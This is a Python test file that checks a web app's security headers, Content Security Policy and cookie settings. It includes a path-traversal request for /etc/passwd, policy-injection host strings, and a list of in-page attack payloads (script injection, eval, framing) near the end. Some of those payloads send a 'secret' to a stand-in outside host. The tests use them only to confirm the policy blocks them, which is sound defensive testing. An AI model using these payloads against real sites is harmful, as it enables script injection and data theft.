"""Security headers and cookies. Authorities: OWASP Secure Headers Project and HTTP Headers Cheat Sheet, CSP Level 3,
RFC 6797 (HSTS), RFC 6265bis (cookies), and Chromium, which obeys or does not."""

from __future__ import annotations

import asyncio
import re
from collections.abc import Callable
from http.cookies import SimpleCookie
from importlib.metadata import version
from platform import python_version

import pytest
from playwright.sync_api import Page
from playwright.sync_api import TimeoutError as TookTooLong
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route
from starlette.types import Message, Scope

from serving.headers import INDEX_HTML, Policy, SecurityHeaders, faultless, hardened, hashes
from tests.e2e.browser import Window
from tests.e2e.server import Server
from tests.serving.raw import Answer, ask, handshake

pytestmark = pytest.mark.security

BROWSER = (("Accept", "text/html"),)
HTTPS = ("X-Forwarded-Proto", "https")
ANSWERS: dict[str, Callable[[str], Answer]] = {
    "the page": lambda url: ask(url, "/", headers=BROWSER),
    "the page without its shell": lambda url: ask(url, "/"),
    "a page's own address": lambda url: ask(url, "/voices?region=North", headers=BROWSER),
    "an unknown page": lambda url: ask(url, "/nothing/here", headers=BROWSER),
    "an unknown file": lambda url: ask(url, "/media/0000.png"),
    "a shut address": lambda url: ask(url, "/_stcore/agent/openapi.json"),
    "a method": lambda url: ask(url, "/", "POST"),
    "a strange method": lambda url: ask(url, "/", "PROPFIND"),
    "a bad path": lambda url: ask(url, "/%2e%2e/%2e%2e/etc/passwd"),
    "two slashes": lambda url: ask(url, "//elsewhere.example/x"),
    "another host": lambda url: ask(url, "/", headers=[("Host", "elsewhere.example")]),
    "the health": lambda url: ask(url, "/_stcore/health"),
    "a script": lambda url: ask(url, "/" + re.findall(r'src="\./(static/js/[^"]+)"', ask(url).text)[0]),
    "a refused websocket": lambda url: handshake(url, [("Origin", "https://elsewhere.example")]),
    "another websocket": lambda url: handshake(url, path="/other"),
}
VERSIONS = [python_version(), *(version(name) for name in ("streamlit", "uvicorn", "starlette", "httptools"))]


@pytest.fixture(params=ANSWERS)
def answer(request: pytest.FixtureRequest, served: Server) -> Answer:
    return ANSWERS[request.param](served.url)


def test_every_answer_has_what_every_answer_needs(answer: Answer) -> None:
    assert answer["x-content-type-options"] == "nosniff"
    assert answer["referrer-policy"] == "same-origin"
    assert answer["cross-origin-resource-policy"] == "same-origin"
    assert "frame-ancestors 'none'" in answer["content-security-policy"]
    assert "unsafe-eval" not in answer["content-security-policy"]
    assert answer["strict-transport-security"] == "", "over plain HTTP it means nothing (RFC 6797 §7.2)"
    if answer["content-type"].startswith("text/html"):
        assert answer["x-frame-options"] == "DENY"
        assert answer["cross-origin-opener-policy"] == "same-origin"
        assert answer["permissions-policy"].count("=()") > 20


def test_no_answer_says_what_runs_or_where(answer: Answer) -> None:
    """A script of the front end has the version of what it was built from, and cannot do without."""
    assert answer["server"] == "" and answer["x-powered-by"] == ""
    if "javascript" not in answer["content-type"]:
        assert "Traceback" not in answer.whole and "site-packages" not in answer.whole
        assert [one for one in VERSIONS if re.search(rf"(?<![\d.]){re.escape(one)}(?![\d.])", answer.whole)] == []


def test_only_files_that_never_change_are_kept(answer: Answer) -> None:
    immutable = "javascript" in answer["content-type"]
    assert answer["cache-control"] == ("public, immutable, max-age=31536000" if immutable else "no-store")


def test_the_policy_of_a_page_is_strict(served: Server) -> None:
    policy = dict(
        part.strip().partition(" ")[::2]
        for part in ask(served.url, headers=BROWSER)["content-security-policy"].split(";")
    )
    host = served.url.removeprefix("http://")
    assert policy["default-src"] == "'self'"
    assert re.fullmatch(r"'self'( 'sha256-[A-Za-z0-9+/]{43}=')+", policy["script-src"])
    assert policy["connect-src"] == f"'self' ws://{host} wss://{host}"
    for name in ("object-src", "base-uri", "frame-src", "worker-src", "frame-ancestors", "script-src-attr"):
        assert policy[name] == "'none'", name
    assert policy["form-action"] == "'self'"
    assert "http:" not in " ".join(policy.values()) and "*" not in " ".join(policy.values())


@pytest.mark.parametrize("host", ["a; script-src *", "a' 'unsafe-inline", "a\tb", "", "*", "a,b"])
def test_a_host_writes_nothing_into_the_policy(host: str) -> None:
    assert "connect-src 'self';" in Policy(()).page(host)


def test_frames_only_of_whom_was_named() -> None:
    policy = Policy((), frames=("https://wall.example",))
    assert policy.page("room.example").endswith("frame-ancestors https://wall.example")
    headers = through(policy, HTTPS)
    assert "x-frame-options" not in headers


def test_hsts_and_secure_cookies_behind_tls_only(served: Server) -> None:
    """Said by a proxy on this machine; by anybody else it is not believed (test_gate.py)."""
    plain, secure = ask(served.url, "/_stcore/health"), ask(served.url, "/_stcore/health", headers=[HTTPS])
    assert secure["strict-transport-security"] == "max-age=31536000"
    assert "Secure" not in plain["set-cookie"] and "; Secure" in secure["set-cookie"]
    assert ask(served.url, headers=[*BROWSER, HTTPS])["strict-transport-security"]


def test_the_token_against_forged_requests_goes_to_our_own_pages_only(served: Server) -> None:
    """Its script must read it (OWASP: double submit), so it is not HttpOnly."""
    cookie = SimpleCookie(ask(served.url, "/_stcore/health")["set-cookie"])["_streamlit_xsrf"]
    assert (cookie["samesite"], cookie["httponly"], cookie["path"]) == ("Strict", "", "/")


@pytest.mark.parametrize("name", ["_streamlit_user", "_streamlit_user_tokens", "_streamlit_user_2"])
def test_who_has_signed_in_is_kept_for_as_long_as_it_holds(name: str) -> None:
    """As Streamlit sets it (starlette_auth_routes._set_single_cookie)."""
    response = Response()
    response.set_cookie(name, "signed", httponly=True, samesite="lax", path="/", max_age=30 * 24 * 3600)
    cookie = SimpleCookie(hardened(response.headers["set-cookie"], secure=True, seconds=3600))[name]
    assert cookie.value == "signed"
    assert (cookie["samesite"], cookie["httponly"], cookie["secure"]) == ("Strict", True, True)
    assert cookie["max-age"] == "3600"
    gone = SimpleCookie(hardened(f'{name}=""; Max-Age=0; Path=/', secure=True, seconds=3600))[name]
    assert gone["max-age"] == "0", "signing out"


def test_the_state_of_a_sign_in_survives_the_way_back() -> None:
    """The provider leads back from its own site, which a strict cookie would not live through."""
    cookie = SimpleCookie(hardened("_streamlit_session=x; path=/; httponly; samesite=lax", True, 60))
    assert cookie["_streamlit_session"]["samesite"].lower() == "lax"
    assert cookie["_streamlit_session"]["httponly"] and cookie["_streamlit_session"]["secure"]


def test_any_other_cookie_is_hidden_from_scripts_and_lax() -> None:
    assert hardened("new=1; Path=/", False, 60) == "new=1; Path=/; HttpOnly; SameSite=Lax"


def through(policy: Policy, *headers: tuple[str, str], path: str = "/") -> dict[str, str]:
    """Headers of an answer that the middleware let through: two cookies, a page, or one that breaks."""

    async def page(_request: Request) -> Response:
        response = Response("<p>", media_type="text/html")
        response.headers.append("set-cookie", "a=1")
        response.headers.append("set-cookie", "_streamlit_xsrf=2; SameSite=Strict")
        return response

    async def breaks(_request: Request) -> Response:
        raise RuntimeError("canary-in-an-exception")

    app = Starlette(
        routes=[Route("/", page), Route("/breaks", breaks)],
        middleware=[Middleware(SecurityHeaders, policy=policy)],
        exception_handlers=faultless(policy),
    )
    sent: list[Message] = []

    async def receive() -> Message:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Message) -> None:
        sent.append(message)

    scope: Scope = {
        "type": "http", "method": "GET", "path": path, "root_path": "", "query_string": b"", "http_version": "1.1",
        "scheme": "https" if HTTPS in headers else "http", "headers": [(b"host", b"room.example")],
    }  # fmt: skip
    try:
        asyncio.run(app(scope, receive, send))
    except RuntimeError:
        assert path == "/breaks", "Starlette raises it again for the log"
    found: dict[str, str] = {"status": str(sent[0]["status"]), "body": sent[1]["body"].decode()}
    for name, value in sent[0]["headers"]:
        found[name.decode()] = "\n".join(filter(None, (found.get(name.decode()), value.decode())))
    return found


def test_each_of_several_cookies_is_hardened() -> None:
    assert through(Policy(()), HTTPS)["set-cookie"].split("\n") == [
        "a=1; HttpOnly; Secure; SameSite=Lax",
        "_streamlit_xsrf=2; SameSite=Strict; Secure",
    ]


def test_a_fault_of_ours_says_nothing() -> None:
    """The answer that Starlette gives outside of all middleware."""
    found = through(Policy(()), path="/breaks")
    assert (found["status"], found["body"]) == ("500", "something went wrong\n")
    assert "nosniff" in found.values() and "no-store" in found.values()


def test_the_inline_scripts_of_the_shell_are_those_that_were_read() -> None:
    """A newer Streamlit may write another one: its hash follows by itself."""
    assert len(hashes(INDEX_HTML.read_text())) == INDEX_HTML.read_text().count("<script>")
    assert hashes("<script>alert('Hello, world.');</script>") == (
        "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='",
    ), "the example of the CSP documentation (MDN, script-src)"


ATTACKS = {
    "inline script": "() => { const s = document.createElement('script'); s.text = 'window.ran = 1';"
    " document.head.append(s); }",
    "handler": "() => { const b = document.createElement('b'); b.setAttribute('onclick', 'window.ran = 1');"
    " document.body.append(b); b.click(); }",
    "eval": "() => { try { (0, eval)('window.ran = 1'); } catch {} }",
    "Function": "() => { try { new Function('window.ran = 1')(); } catch {} }",
    "script from elsewhere": "() => { const s = document.createElement('script'); s.src = 'http://127.0.0.2:1/x.js';"
    " document.head.append(s); }",
    "script from a blob": "() => { const s = document.createElement('script');"
    " s.src = URL.createObjectURL(new Blob(['window.ran = 1'])); document.head.append(s); }",
    "javascript address": "() => { const a = document.createElement('a'); a.href = 'javascript:window.ran = 1';"
    " document.body.append(a); a.click(); }",
    "frame": "() => { const f = document.createElement('iframe'); f.src = 'http://127.0.0.2:1/';"
    " document.body.append(f); }",
    "frame of its own": "() => { const f = document.createElement('iframe');"
    " f.srcdoc = `<script>parent.ran = 1</script>`; document.body.append(f);"
    " f.onload = () => { heard.push('inside'); }; }",
    "picture": "() => { new Image().src = 'http://127.0.0.2:1/?secret'; }",
    "fetch": "() => fetch('http://127.0.0.2:1/?secret').catch(() => {})",
    "beacon": "() => { navigator.sendBeacon('http://127.0.0.2:1/', 'secret'); }",
    "socket": "() => { try { new WebSocket('ws://127.0.0.2:1/'); } catch {} }",
    "style": "() => { const s = document.createElement('style');"
    " s.textContent = 'body { background: url(http://127.0.0.2:1/x) }'; document.head.append(s); }",
    "base": "() => { const b = document.createElement('base'); b.href = 'http://127.0.0.2:1/'; document.head.append(b);"
    " const i = new Image(); i.src = 'x.png'; b.remove(); }",
    "form": "() => { const f = document.createElement('form'); f.action = 'http://127.0.0.2:1/'; f.target = '_blank';"
    " document.body.append(f); f.submit(); }",
}
"""What script that got into the page would do first. 127.0.0.2 is somebody else."""
HEARD = (
    "window.heard = []; addEventListener('securitypolicyviolation',"
    " event => heard.push(`${event.effectiveDirective} ${event.blockedURI}`))"
)


@pytest.mark.browser
def test_pages_work_and_whatever_gets_in_does_nothing(served: Server, window: Window) -> None:
    page: Page = window.page
    elsewhere: list[str] = []
    page.on("request", lambda request: elsewhere.append(request.url) if "127.0.0.2" in request.url else None)
    page.on("requestfailed", lambda request: elsewhere.remove(request.url) if request.url in elsewhere else None)
    page.add_init_script(HEARD)
    window.open(served.url)
    assert page.locator("svg.marks, canvas").count() > 0, "charts are drawn without eval"
    assert page.evaluate("window.heard") == ["script-src wasm-eval"], "protobuf tries, for long numbers, and goes on"
    assert window.complaints == []
    for name, attack in ATTACKS.items():
        page.evaluate("() => { window.heard = []; window.ran = undefined; }")
        page.evaluate(f"() => {{ setTimeout({attack}); }}")  # what a driver evaluates itself may do everything
        try:
            page.wait_for_function("() => window.heard.length > 0", timeout=5_000)
        except TookTooLong:
            pytest.fail(f"nothing stopped: {name}")
        assert page.evaluate("window.ran") is None, name
    assert elsewhere == []
